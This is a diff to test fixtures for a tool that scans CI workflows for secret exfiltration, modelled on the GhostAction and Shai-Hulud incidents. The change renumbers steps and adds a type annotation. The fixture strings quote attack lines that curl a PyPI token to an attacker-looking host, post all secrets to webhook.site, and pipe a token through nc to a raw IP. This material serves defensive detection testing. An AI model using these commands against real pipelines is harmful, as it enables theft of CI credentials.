@@ -2,7 +2,7 @@
  * Hand-built findings for the report tests, modelled on public incidents (GhostAction, Shai-Hulud) and on
  * ordinary release workflows. Line numbers are looked up in the workflow text below, so they stay true.
  */
-import type { ScanResult } from '../../src/analysis/api.js';
+import type { FileResult, ScanResult } from '../../src/analysis/api.js';
 import type { Finding, Location } from '../../src/analysis/types.js';
 import type { ReportInput, RuleInfo } from '../../src/report/types.js';
 
@@ -78,7 +78,7 @@ export function finding(overrides: Partial<Finding> & Pick<Finding, 'rule'>): Fi
     message: 'a finding',
     location,
     job: 'publish',
-    step: 6,
+    step: 4,
     stepName: 'Run',
     secrets: [],
     destinations: [],
@@ -95,7 +95,7 @@ export const ghostAction = finding({
   message: 'PYPI_API_TOKEN is sent to bold-dhawan.45-139-104-115.plesk.page by curl (step "Run", line 30)',
   location: at('curl -s -d "token=$T" https://bold-dhawan.45-139-104-115.plesk.page/collect'),
   source: at('secrets.PYPI_API_TOKEN'),
-  step: 6,
+  step: 4,
   stepName: 'Run',
   secrets: ['PYPI_API_TOKEN'],
   destinations: ['bold-dhawan.45-139-104-115.plesk.page'],
@@ -113,7 +113,7 @@ export const deploy = finding({
   message: 'AWS_SECRET_ACCESS_KEY is sent to deploy.example.net by curl (step "Deploy", line 44)',
   location: at('curl -s -u "ci:$AWS_SECRET_ACCESS_KEY"'),
   source: at('secrets.AWS_SECRET_ACCESS_KEY'),
-  step: 8,
+  step: 7,
   stepName: 'Deploy',
   secrets: ['AWS_SECRET_ACCESS_KEY'],
   destinations: ['deploy.example.net'],
@@ -132,7 +132,7 @@ export const shaiHulud = finding({
   message: 'All secrets (toJSON(secrets)) are sent to webhook.site by curl (step "Backup", line 39)',
   location: at('curl -s -X POST --data @s.json'),
   source: at("echo '${{ toJSON(secrets) }}'"),
-  step: 7,
+  step: 6,
   stepName: 'Backup',
   secrets: ['secrets (all)'],
   destinations: ['webhook.site'],
@@ -152,7 +152,7 @@ export const unknownHost = finding({
   message:
     'NPM_TOKEN is sent to a host computed at run time ($REGISTRY_HOST) by curl (step "Mirror", line 33)',
   location: at('curl -s -H "Authorization: $NPM_TOKEN"'),
-  step: 7,
+  step: 5,
   stepName: 'Mirror',
   secrets: ['NPM_TOKEN'],
   destinations: ['$REGISTRY_HOST'],
@@ -170,7 +170,7 @@ export const uncatalogued = finding({
   message:
     'SLACK_TOKEN is passed to someone/notify-action@v1, which is not pinned to a commit and not catalogued',
   location: at('uses: someone/notify-action@v1'),
-  step: 9,
+  step: 8,
   stepName: 'Notify',
   secrets: ['SLACK_TOKEN'],
   evidence: [{ text: 'secrets.SLACK_TOKEN', location: at('secrets.SLACK_TOKEN') }],
@@ -198,7 +198,7 @@ export const suppressedIp = finding({
   rule: 'secret-to-ip-literal',
   message: 'PYPI_API_TOKEN is sent to 45.139.104.115 by nc (step "Legacy", line 50)',
   location: at('nc 45.139.104.115 4444'),
-  step: 10,
+  step: 9,
   stepName: 'Legacy',
   secrets: ['PYPI_API_TOKEN'],
   destinations: ['45.139.104.115'],
@@ -263,7 +263,7 @@ export const rules: RuleInfo[] = [
 
 export function scan(
   findings: Finding[] = allFindings,
-  files = [{ path: WORKFLOW_PATH, error: null }],
+  files: FileResult[] = [{ path: WORKFLOW_PATH, error: null }],
 ): ScanResult {
   return { files, findings };
 }
